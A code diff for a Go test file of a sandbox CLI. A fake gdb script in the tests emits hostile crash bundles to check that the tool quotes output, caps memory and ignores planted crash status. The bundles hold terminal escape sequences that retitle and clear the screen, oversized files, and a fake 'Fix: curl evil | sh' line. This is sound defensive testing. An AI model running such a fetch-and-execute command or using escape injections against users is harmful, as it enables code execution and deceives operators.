@@ -89,11 +89,11 @@ func raw(t *testing.T, what, s string) {
 	}
 }
 
-// fakeGdb stands in for gdb: it reports a crash that never happened, with
-// escapes in the signal and the backtrace (retitle, clear, a fake "fix"),
-// a backtrace of megabytes, build-ids of megabytes, and a "binary" of
-// 256 MiB (sparse here: nothing to the sandbox, everything to a client that
-// buffers it).
+// fakeGdb stands in for gdb where a crash's bundle is made (a copy of the
+// sandbox's capture): escapes in the backtrace (retitle, clear, a fake
+// "fix"), a backtrace of megabytes, build-ids of megabytes, and a "binary"
+// of 256 MiB (sparse here: nothing to the sandbox, everything to a client
+// that buffers it).
 const fakeGdb = `#!/bin/sh
 while [ $# -gt 0 ]; do [ "$1" = -x ] && py=$2; shift; done
 D=$(dirname "$py")
@@ -101,12 +101,11 @@ mkdir -p "$D/bundle/files/bin"
 { printf '#0 main () at fix.c:1\n\033]0;pwned\007\033[2J\033[HAll tests passed. Fix: curl evil | sh\n'; head -c 3000000 /dev/zero | tr '\0' a; } > "$D/bundle/backtrace.txt"
 { head -c 2000000 /dev/zero | tr '\0' b; echo " /bin/true"; } > "$D/bundle/buildids.txt"
 truncate -s 256M "$D/bundle/files/bin/true"
-printf 'crashed 11 SIGSEGV\033]0;pwned\007\033[2J\n' > "$D/status"
 `
 
-// TestHostileFakeGdb: exec --on-crash under a lying gdb. The CLI shows
-// the crash as the sandbox's word, quoted, its memory stays small, and the
-// bundle is saved.
+// TestHostileFakeGdb: exec --on-crash of a real crash, whose bundle a lying
+// gdb makes. The CLI shows the crash as the sandbox's word, quoted, its
+// memory stays small, and the bundle is saved.
 func TestHostileFakeGdb(t *testing.T) {
 	d := shared
 	ctx := context.Background()
@@ -115,7 +114,13 @@ func TestHostileFakeGdb(t *testing.T) {
 		t.Fatal(err)
 	}
 	dir := filepath.Join(t.TempDir(), "bundle")
-	r, rss := d.sbxRSS(t, t.TempDir(), "exec", "--on-crash", "--crash-dir", dir, sb.ID(), "--", "/bin/true")
+	t.Cleanup(func() {
+		crs, _ := sb.Crashes(context.Background())
+		for _, cr := range crs {
+			d.sbx(t, "snapshot", "rm", cr.Snapshot)
+		}
+	})
+	r, rss := d.sbxRSS(t, t.TempDir(), "exec", "--on-crash", "--crash-dir", dir, sb.ID(), "--", "sh", "-c", "kill -SEGV $$")
 	if r.code != 139 {
 		t.Fatalf("exit %d, want 139 (the sandbox's word)\nstderr: %.2000s", r.code, r.stderr)
 	}
@@ -136,8 +141,9 @@ func TestHostileFakeGdb(t *testing.T) {
 
 // TestHostileHuntSparseStatus: the issue's attack. A test that plants a
 // sparse 2 GiB crash/status in the hunt's evidence and fails: sbx hunt
-// reads its head only, keeps a capped copy, says what it cut, and its
-// memory stays small.
+// keeps a capped copy, says what it cut, and its memory stays small. The
+// planted status fakes no crash (a crash is the sandbox's capture now, not
+// a file in the evidence).
 func TestHostileHuntSparseStatus(t *testing.T) {
 	d := shared
 	dir := t.TempDir()
@@ -164,8 +170,8 @@ func TestHostileHuntSparseStatus(t *testing.T) {
 	if note, err := os.ReadFile(filepath.Join(art, "TRUNCATED.txt")); err != nil || !strings.Contains(string(note), "crash/status") {
 		t.Errorf("TRUNCATED.txt: %q %v, want it to name crash/status", note, err)
 	}
-	if s.Crash == nil || s.Crash.SignalName != "SIGSEGV" {
-		t.Errorf("crash %+v, want the planted SIGSEGV (the sandbox's word)", s.Crash)
+	if s.Crash != nil {
+		t.Errorf("crash %+v, want none: a planted status is no crash", s.Crash)
 	}
 }
 
